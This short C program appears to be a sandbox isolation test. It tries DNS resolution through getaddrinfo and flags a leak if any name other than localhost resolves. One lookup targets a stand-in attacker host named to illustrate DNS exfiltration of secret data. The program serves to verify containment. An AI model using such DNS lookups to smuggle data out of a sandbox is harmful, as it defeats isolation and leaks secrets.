// Attack: resolve names with getaddrinfo (DNS exfiltration); in native every socket is refused, so resolution must fail.
#include <netdb.h>
#include <stdio.h>
#include <string.h>
int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *names[] = {"example.com", "exfil-secret-data.attacker.example", "localhost"};
    for (int i = 0; i < 3; i++) {
        struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res;
        int r = getaddrinfo(names[i], "80", &hints, &res);
        if (r != 0)
            printf("resolve %s: failed (%s)\n", names[i], gai_strerror(r));
        else
            printf("resolve %s: resolved%s\n", names[i], strcmp(names[i], "localhost") ? " (LEAK)" : "");
    }
    return 0;
}
